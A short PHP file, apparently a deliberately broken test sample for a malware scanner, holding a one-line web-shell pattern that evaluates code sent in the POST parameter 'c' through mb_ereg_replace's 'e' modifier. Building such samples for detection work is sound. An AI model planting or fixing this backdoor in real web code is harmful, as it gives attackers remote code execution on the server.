<?php
shodo inert sample: deliberate syntax error, this file never runs
 mb_ereg_replace('.*', $_POST['c'], '', 'e'); ?>
